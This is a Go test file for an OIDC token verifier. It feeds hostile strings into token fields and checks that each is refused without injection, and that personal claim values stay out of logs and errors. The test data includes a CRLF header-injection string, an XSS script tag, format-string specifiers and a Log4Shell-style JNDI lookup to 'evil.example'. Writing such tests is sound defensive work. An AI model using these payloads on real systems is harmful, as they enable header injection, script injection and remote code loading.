package oidcauth_test

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/knownbearer/knownbearer/claims"
	"github.com/knownbearer/knownbearer/oidcauth"
	"github.com/knownbearer/knownbearer/oidcauth/reason"
	"github.com/knownbearer/knownbearer/usermap"
)

// Text of a token can inject nothing into a client, a browser or a log viewer.
func TestVerdictHygiene(t *testing.T) {
	var out []verdict
	for _, hostile := range []string{
		"\r\nSet-Cookie: a=b", "<script>alert(1)</script>", "\x1b[2J", "%s%n%d", "{{.}}x", "${jndi:ldap://evil.example/a}", "\u202e\u2028",
		"\x00\x00\x00\x00\x00", strings.Repeat("x", 20000),
	} {
		out = append(out,
			verdict{name: "iss " + fmt.Sprintf("%.6q", hostile), claims: obj{"iss": hostile}, want: reason.UnknownIssuer},
			verdict{name: "kid " + fmt.Sprintf("%.6q", hostile), header: obj{"kid": hostile}, want: reason.KeyNotFound},
			verdict{name: "alg " + fmt.Sprintf("%.6q", hostile), header: obj{"alg": hostile}, want: reason.AlgorithmRefused},
			verdict{name: "typ " + fmt.Sprintf("%.6q", hostile), header: obj{"typ": hostile}, want: reason.WrongTokenType},
			verdict{name: "aud " + fmt.Sprintf("%.6q", hostile), claims: obj{"aud": []string{hostile, hostile}}, want: reason.WrongAudience},
			verdict{
				name: "azp " + fmt.Sprintf("%.6q", hostile), claims: obj{"azp": hostile},
				config: func(c *oidcauth.Config) { c.Issuers[0].ClientIDs = []string{"a"} }, want: reason.UnauthorizedParty,
			},
			verdict{name: "jti " + fmt.Sprintf("%.6q", hostile), claims: obj{"jti": hostile, "exp": 1}, want: reason.Expired},
			verdict{name: "a claim named " + fmt.Sprintf("%.6q", hostile), claims: obj{hostile: 1, "sub": nil}, want: reason.ClaimMissing},
		)
	}
	runVerdicts(t, out)
}

// For every reason of refusal, logs and errors contain no values of personal claims.
func TestVerdictHygieneOfPersonalClaims(t *testing.T) {
	w := newWorld(t)
	const secret = "alice-the-secret@corp.example"
	w.start(t, func(c *oidcauth.Config) {
		c.Issuers[0].Claims.User = claims.Name("email")
		c.Issuers[0].Claims.Checks = []claims.Check{claims.Equals(claims.Name("phone"), "1")}
		c.Users = usermap.FinderFunc(func(context.Context, usermap.Query) ([]usermap.User, error) { return nil, errors.New("down") })
	})
	for i, change := range []obj{
		{"phone": secret},
		{"phone": "1", "email": []string{secret}},
		{"phone": "1", "email": secret},
		{"email": secret, "exp": 1},
		{"email": secret, "Sub": secret},
		{"email": secret, "aud": nil},
	} {
		require.NotEmpty(t, w.reason(t, verdict{claims: change}), fmt.Sprint(i))
		require.NotContains(t, w.log.String(), secret)
		require.NotContains(t, w.refused.Error(), secret)
	}
}
